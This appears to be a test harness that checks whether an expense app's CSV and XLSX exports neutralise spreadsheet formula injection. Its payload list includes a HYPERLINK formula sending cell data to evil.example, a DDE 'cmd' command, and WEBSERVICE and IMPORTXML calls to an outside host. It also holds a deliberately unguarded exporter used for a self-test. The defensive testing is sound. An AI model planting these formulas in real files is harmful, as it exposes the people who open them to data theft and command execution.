/**
 * D7, exports: texts a spreadsheet could run as a formula (OWASP "CSV injection"), written into
 * expense lines and exported through the app's real CSV and XLSX jobs, then read back with
 * csv-parse and exceljs. The checks are written here, apart from the app's guard
 * (shared/exports/cells.ts), so a guard that loses a case is caught rather than agreed with.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import type { AppEvent } from '../../../main/api/events';
import { createApp, type RunningApp } from '../../../main/app';
import { seedLines } from '../../../main/domains/exports/test-exports';
import type { TestApp } from '../../../main/test-support';
import type { ExportFile } from '../../../shared/exports';
import { ok, newRequest } from '../../crashtest/company';
import { companyClock, makeCompany } from '../shell/company';

/** What a spreadsheet (Excel, WPS, LibreOffice, Sheets) may read as the start of a formula. */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'] as const;
/** What may come before it and still leave it a formula to some reader. */
const LEADS = ['', ' ', '   ', '\t', '\r', '\u3000', ' \t', '\r\n', '\t='] as const;
const BODIES = [
  '1+1',
  'HYPERLINK("https://evil.example/?d="&A1,"点此")',
  "cmd|'/c calc'!A1",
  'SUM(A1:A9)*10',
  'WEBSERVICE("http://x")',
  'IMPORTXML(CONCAT("http://x/?",A2),"//a")',
] as const;

/** Every formula case: each start after each lead, with a rotating body; then tab and CR alone. */
export function formulaCases(): string[] {
  const out: string[] = [];
  let b = 0;
  for (const start of STARTS) {
    for (const lead of LEADS) {
      out.push(`${lead}${start}${BODIES[b++ % BODIES.length] ?? ''}`);
    }
  }
  // A leading tab or CR alone: some readers then take the next cell's text as a formula.
  out.push('\tplain', '\rplain', '\t\t=1', ' \r@x', '=', '＠', '-1', '+86 138 0013 8000');
  return out;
}

/** A text a spreadsheet could evaluate (the harness's own rule, not the app's). */
export function formulaLike(s: string): boolean {
  return /^[\t\r]/u.test(s) || /^[\s\u3000]*[=+\-@＝＋－＠]/u.test(s);
}

export interface ReadBack {
  /** Cases found in the file (by their invoice number). */
  found: number;
  /** Cases whose cell a spreadsheet could still evaluate. */
  unguarded: string[];
  /** Formula cells in the workbook (XLSX only). */
  formulaCells: number;
  /** Cases whose text did not come back as the guard says (CSV: `'` + text; XLSX: the text). */
  altered: string[];
}

const tag = (i: number) => `CASE-${i}`;

/** Checks a CSV export: every case's cell is guarded, and is exactly `'` + the text. */
export function checkCsv(bytes: Buffer, cases: readonly string[], column = 'vendor'): ReadBack {
  const records = parse(bytes, { bom: true, relax_column_count: true }) as string[][];
  const header = records[0] ?? [];
  // The vendor and invoice-number columns are found by position of the expense sheet (header
  // texts are translated): vendor 8th, invoice number 9th.
  const vIdx = column === 'vendor' ? 7 : 0;
  const invIdx = 8;
  const r: ReadBack = { found: 0, unguarded: [], formulaCells: 0, altered: [] };
  if (header.length < 9) return { ...r, altered: ['(no expense header)'] };
  for (const row of records.slice(1)) {
    const i = Number(/^CASE-(\d+)$/.exec(row[invIdx] ?? '')?.[1] ?? NaN);
    if (!Number.isInteger(i) || i < 0 || i >= cases.length) continue;
    r.found++;
    const text = row[vIdx] ?? '';
    const original = cases[i] ?? '';
    if (formulaLike(text)) r.unguarded.push(JSON.stringify(text));
    if (text !== `'${original}`) r.altered.push(JSON.stringify(original));
  }
  return r;
}

/** Checks an XLSX export: no formula cell anywhere, every case a string cell with its text. */
export async function checkXlsx(bytes: Buffer, cases: readonly string[]): Promise<ReadBack> {
  const r: ReadBack = { found: 0, unguarded: [], formulaCells: 0, altered: [] };
  // The XML itself: a formula is an <f> element, whatever a reader library makes of it.
  const zip = await JSZip.loadAsync(bytes);
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))) {
    const xml = (await zip.file(name)?.async('string')) ?? '';
    r.formulaCells += (xml.match(/<f[\s>/]/g) ?? []).length;
  }
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  let libraryFormulas = 0;
  for (const ws of wb.worksheets) {
    ws.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) libraryFormulas++;
      });
      const inv = row.getCell(9).value;
      const i = Number(/^CASE-(\d+)$/.exec(typeof inv === 'string' ? inv : '')?.[1] ?? NaN);
      if (ws.id !== wb.worksheets[0]?.id || !Number.isInteger(i) || i < 0 || i >= cases.length) {
        return;
      }
      r.found++;
      const cell = row.getCell(8);
      if (cell.type !== ExcelJS.ValueType.String) r.unguarded.push(JSON.stringify(cases[i]));
      if (cell.value !== cases[i]) r.altered.push(JSON.stringify(cases[i]));
    });
  }
  r.formulaCells = Math.max(r.formulaCells, libraryFormulas);
  return r;
}

type Progress = AppEvent<'exports.progress'>['payload'];

/** Runs one export as the finance officer and returns its file. */
async function exportFile(
  app: RunningApp,
  token: string,
  format: 'csv' | 'xlsx',
  period: { from: string; to: string },
): Promise<ExportFile> {
  const progress: Progress[] = [];
  const off = app.events.subscribe((e) => {
    if (e.name === 'exports.progress') progress.push(e.payload as Progress);
  });
  try {
    const job = await ok(
      app,
      'exports.start',
      { format, filter: { source: 'expenses', period } },
      token,
    );
    const until = Date.now() + 30_000;
    const end = () => progress.find((p) => p.jobId === job.jobId && p.status !== 'running');
    while (!end()) {
      if (Date.now() > until) throw new Error(`export ${format} did not finish`);
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    if (end()?.status !== 'done')
      throw new Error(`export ${format} failed: ${JSON.stringify(end())}`);
    return await ok(app, 'exports.download', { jobId: job.jobId }, token);
  } finally {
    off();
  }
}

export interface ExportResult {
  cases: number;
  csv: ReadBack;
  xlsx: ReadBack;
}

/** Stores every case as an expense line's vendor and exports the month as CSV and XLSX. */
export async function runExportCases(): Promise<ExportResult> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rm-score-d7x-'));
  const clock = companyClock();
  const app = createApp(path.join(dir, 'reception.db'), { clock });
  try {
    const c = await makeCompany(app);
    const d = await ok(app, 'requests.submit', newRequest(), c.host);
    const cases = formulaCases();
    const shim = { app, now: clock } as unknown as TestApp;
    await seedLines(
      shim,
      cases.map((vendor, i) => ({
        requestId: d.id,
        hostUserId: c.hostId,
        departmentId: c.departmentId,
        spentOn: '2026-12-02',
        vendor,
        invoiceNo: tag(i),
        amountFen: 10_000 + i,
      })),
    );
    const period = { from: '2026-12-01', to: '2026-12-31' };
    const csv = await exportFile(app, c.finance, 'csv', period);
    const xlsx = await exportFile(app, c.finance, 'xlsx', period);
    return {
      cases: cases.length,
      csv: checkCsv(Buffer.from(csv.dataBase64, 'base64'), cases),
      xlsx: await checkXlsx(Buffer.from(xlsx.dataBase64, 'base64'), cases),
    };
  } finally {
    await app.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/**
 * The self-test's writers: what a naive exporter does, so the checks are shown to catch it. The
 * CSV writes texts as they are; the XLSX turns formula-looking texts into formula cells.
 */
export async function unguardedFiles(
  cases: readonly string[],
): Promise<{ csv: Buffer; xlsx: Buffer }> {
  const header = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'vendor', 'invoice'];
  const quote = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  const lines = [header, ...cases.map((v, i) => ['', '', '', '', '', '', '', v, tag(i)])];
  const csv = Buffer.from(lines.map((l) => l.map(quote).join(',')).join('\r\n'), 'utf8');
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('x');
  ws.addRow(header);
  cases.forEach((v, i) => {
    const row = ws.addRow(['', '', '', '', '', '', '', null, tag(i)]);
    const t = v.trim();
    row.getCell(8).value = /^[=+\-@＝＋－＠]/u.test(t) ? { formula: t.replace(/^[=＝]/u, '') } : v;
  });
  const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
  return { csv, xlsx };
}
